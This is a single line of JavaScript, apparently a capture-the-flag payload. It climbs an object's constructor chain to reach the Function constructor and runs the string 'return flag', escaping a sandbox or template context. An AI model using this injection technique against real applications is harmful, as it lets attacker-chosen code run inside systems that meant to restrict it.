shop.constructor.constructor("return flag")()
